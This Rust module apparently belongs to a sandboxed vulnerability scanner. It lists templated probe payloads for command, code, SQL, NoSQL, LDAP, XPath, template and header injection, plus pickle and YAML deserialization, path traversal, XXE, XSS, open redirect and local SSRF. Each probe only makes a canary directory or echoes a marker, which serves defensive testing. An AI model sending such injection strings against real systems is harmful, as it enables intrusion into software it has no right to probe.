//! What is sent: for each class the inputs that would do harm, and would do it
//! only there.
//!
//! In a text `{n}` is a word that is new in every request, `{d}` the directory
//! of the canaries, in which there is a file of that name, `{m}` what is to be
//! made there, `{u}` the way up from anywhere, `{p}` the listener's port, `{a}`
//! and `{b}` are numbers.

use std::hash::{BuildHasher as _, RandomState};

use super::Class;

/// The directory of the canaries in the box.
pub(super) const CANARIES: &str = "/tmp/cofferdam/canary";

/// The language whose code a project would run.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub(super) enum Language {
    Python,
    JavaScript,
}

/// Input that does no harm, as words and as a number.
pub(super) const CONTROLS: &[&str] = &["{n}", "{a}"];

const COMMAND: &[&str] = &[
    "{n};mkdir {m}",
    "{n}|mkdir {m}",
    "$(mkdir {m})",
    "{n}';mkdir {m};'",
    "{n}\";mkdir {m};\"",
    "{n}\nmkdir {m}\n",
    "{n}&mkdir {m}",
    "mkdir {m}",
];
const PYTHON: &[&str] = &[
    "__import__('os').mkdir('{m}')",
    "'+str(__import__('os').mkdir('{m}'))+'",
    "\"+str(__import__(\"os\").mkdir(\"{m}\"))+\"",
    "1\n__import__('os').mkdir('{m}')",
    "');__import__('os').mkdir('{m}');('",
    "\");__import__(\"os\").mkdir(\"{m}\");(\"",
];
const JAVASCRIPT: &[&str] = &[
    "process.getBuiltinModule('fs').mkdirSync('{m}')",
    "';process.getBuiltinModule('fs').mkdirSync('{m}');'",
    "\";process.getBuiltinModule(\"fs\").mkdirSync(\"{m}\");\"",
    "1;process.getBuiltinModule('fs').mkdirSync('{m}')",
    "(function(){return this})().constructor.constructor('return process')().getBuiltinModule('fs').mkdirSync('{m}')",
];
const PICKLE: &str = "cos\nmkdir\n(S'{m}'\ntR.";
const OBJECTS_PYTHON: &[&str] = &[
    PICKLE,
    "!!python/object/apply:os.mkdir ['{m}']",
    "{\"py/reduce\": [{\"py/function\": \"os.mkdir\"}, {\"py/tuple\": [\"{m}\"]}]}",
];
const OBJECTS_JAVASCRIPT: &[&str] = &[
    "{\"{n}\":\"_$$ND_FUNC$$_function (){process.getBuiltinModule('fs').mkdirSync('{m}')}()\"}",
    "toString: !!js/function 'function (){process.getBuiltinModule(\"fs\").mkdirSync(\"{m}\")}'",
];
const PATH: &[&str] = &[
    "{u}{d}/{n}",
    "{d}/{n}",
    "....//....//....//....//....//....//....//....//....//....//tmp/cofferdam/canary/{n}",
    "{u}{d}/{n}\0.png",
    "file://{d}/{n}",
];
const XXE: &[&str] = &[
    "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY e SYSTEM \"file://{d}/{n}\">]><r>&e;</r>",
    "<!DOCTYPE r [<!ENTITY e SYSTEM \"{d}/{n}\">]><r>&e;</r>",
];
const SQL: &[&str] = &[
    "{n}' OR 'a'='a",
    "{n}\" OR \"a\"=\"a",
    "{n}'",
    "{n}) OR (1=1",
    "{n} OR 1=1",
    "{n}' -- ",
    "{a} OR {b}={b}",
    "{a}) OR ({b}={b}",
];
const NOSQL: &[&str] = &["{n}' || 'a'=='a", "{n}\" || \"a\"==\"a", "{a} || {b}=={b}"];
const LDAP: &[&str] = &["{n})(cn={n}", "{n}*"];
const XPATH: &[&str] = &[
    "{n}' or 'a'='a",
    "{n}\" or \"a\"=\"a",
    "{n}']|//*['",
    "{n} or 1=1",
    "{a} or {b}={b}",
];
const REDIRECT: &[&str] = &[
    "http://{n}.example/",
    "//{n}.example/",
    "https:{n}.example/",
    "/\\{n}.example/",
];
const XSS: &[&str] = &[
    "<{n}>",
    "\"><{n}>",
    "'><{n}>",
    "x\" {n}=\"y",
    "x' {n}='y",
    "x {n}=y",
    "';{n}//",
    "\";{n}//",
    "javascript:{n}",
    "</script><{n}>",
    "</title></textarea><{n}>",
];
const TEMPLATE: &[&str] = &[
    "{{{a}*{b}}}",
    "${{a}*{b}}",
    "<%= {a}*{b} %>",
    "#{{a}*{b}}",
    "{% widthratio {a} 1 {b} %}",
];
const SSRF: &[&str] = &[
    "http://127.0.0.1:{p}/{n}",
    "http://127.0.0.1:{p}/{n}?",
    "127.0.0.1:{p}/{n}",
];
const HEADER: &[&str] = &["{n}\r\nX-Cofferdam: {n}", "{n}\nX-Cofferdam: {n}"];

/// The inputs of a class, as they are to be sent and how they are encoded.
pub(super) fn payloads(class: Class, language: Language) -> Vec<(&'static str, Encoding)> {
    let python = language == Language::Python;
    let plain =
        |texts: &[&'static str]| texts.iter().map(|text| (*text, Encoding::Plain)).collect();
    match class {
        Class::Command => plain(COMMAND),
        Class::Code => plain(if python { PYTHON } else { JAVASCRIPT }),
        Class::Deserialization => {
            let texts = if python {
                OBJECTS_PYTHON
            } else {
                OBJECTS_JAVASCRIPT
            };
            let mut all: Vec<_> = plain(texts);
            all.push((texts[0], Encoding::Base64));
            all.push((texts[0], Encoding::Base64Url));
            if python {
                all.push((texts[0], Encoding::Hex));
            }
            all
        }
        Class::Path => plain(PATH),
        Class::Xxe => plain(XXE),
        Class::Sql => plain(SQL),
        Class::Ldap => plain(LDAP),
        Class::XPath => plain(XPATH),
        Class::Redirect => plain(REDIRECT),
        Class::Xss => plain(XSS),
        Class::Template => plain(TEMPLATE),
        Class::Ssrf => plain(SSRF),
        Class::Header => plain(HEADER),
        Class::NoSql => {
            let mut all = plain(NOSQL);
            all.push(("{n}", Encoding::Operator));
            all
        }
        // Seen in the answers to harmless input.
        Class::Cookie | Class::TrustBoundary => Vec::new(),
    }
}

/// How an input is encoded.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub(super) enum Encoding {
    Plain,
    Base64,
    Base64Url,
    Hex,
    /// In an object, under an operator of a document store.
    Operator,
}

/// What every word begins with.
pub(super) const WORD: &str = "cfd";

/// The words that are new in one request.
#[derive(Clone, Debug)]
pub(super) struct Fresh {
    /// A word of lower-case letters and digits.
    pub word: String,
    pub a: u32,
    pub b: u32,
    pub port: u16,
}

/// Makes words and numbers that nobody can foresee, each once.
pub(super) struct Words {
    seed: u64,
    /// The port of the listener in the box.
    pub port: u16,
}

impl Words {
    pub fn new(port: u16) -> Self {
        let seed = RandomState::new().hash_one(0);
        Self { seed, port }
    }

    /// New ones, by splitmix64.
    pub fn fresh(&mut self) -> Fresh {
        self.seed = self.seed.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut bits = self.seed;
        bits = (bits ^ (bits >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        bits = (bits ^ (bits >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        bits ^= bits >> 31;
        let number =
            |shift: u32| 1_000_003 + u32::try_from((bits >> shift) & 0xf_ffff).unwrap_or(0);
        Fresh {
            word: format!("{WORD}{:010x}", bits & 0xff_ffff_ffff),
            a: number(0),
            b: number(40),
            port: self.port,
        }
    }
}

impl Fresh {
    /// The input that a template makes.
    pub fn fill(&self, template: &str, encoding: Encoding) -> String {
        let text = template
            .replace("{m}", "{d}/{n}-made")
            .replace("{n}", &self.word)
            .replace("{u}", "../../../../../../../../../../..")
            .replace("{d}", CANARIES)
            .replace("{p}", &self.port.to_string())
            .replace("{a}", &self.a.to_string())
            .replace("{b}", &self.b.to_string());
        match encoding {
            Encoding::Plain | Encoding::Operator => text,
            Encoding::Base64 => base64(text.as_bytes(), *b"+/"),
            Encoding::Base64Url => base64(text.as_bytes(), *b"-_"),
            Encoding::Hex => hex(text.as_bytes()),
        }
    }
}

/// Bytes as hexadecimal digits.
pub(super) fn hex(bytes: &[u8]) -> String {
    let digit = |value: u8| char::from_digit(u32::from(value), 16).unwrap_or('0');
    bytes
        .iter()
        .flat_map(|byte| [digit(byte >> 4), digit(byte & 15)])
        .collect()
}

fn base64(bytes: &[u8], last: [u8; 2]) -> String {
    const FIRST: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
    let letter = |value: u32| {
        let value = (value & 63) as usize;
        char::from(
            FIRST
                .get(value)
                .copied()
                .unwrap_or_else(|| last[value - 62]),
        )
    };
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let byte = |at: usize| u32::from(chunk.get(at).copied().unwrap_or(0));
        let bits = byte(0) << 16 | byte(1) << 8 | byte(2);
        for at in 0..4 {
            let filled = at <= chunk.len();
            out.push(if filled {
                letter(bits >> (18 - 6 * at))
            } else {
                '='
            });
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn base64_is_that_of_the_standard() {
        for (text, encoded) in [
            ("", ""),
            ("f", "Zg=="),
            ("fo", "Zm8="),
            ("foo", "Zm9v"),
            ("??>>", "Pz8+Pg=="),
        ] {
            assert_eq!(base64(text.as_bytes(), *b"+/"), encoded);
        }
        assert_eq!(base64(b"??>>", *b"-_"), "Pz8-Pg==");
    }

    #[test]
    fn every_payload_has_a_word_of_its_own() {
        for class in Class::ALL {
            for language in [Language::Python, Language::JavaScript] {
                for (text, _) in payloads(*class, language) {
                    assert!(
                        ["{n}", "{m}", "{a}"].iter().any(|word| text.contains(word)),
                        "{text}"
                    );
                }
            }
        }
    }
}
